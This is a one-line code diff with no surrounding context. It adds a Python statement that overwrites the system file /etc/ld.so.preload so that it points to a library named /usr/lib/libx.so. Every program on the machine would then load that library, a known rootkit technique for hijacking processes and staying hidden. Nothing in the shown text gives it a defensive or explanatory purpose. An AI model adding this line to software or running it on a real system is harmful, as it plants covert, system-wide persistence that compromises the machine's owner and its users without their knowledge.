@@ -1,0 +1,1 @@
+open('/etc/ld.so.preload', 'w').write('/usr/lib/libx.so')
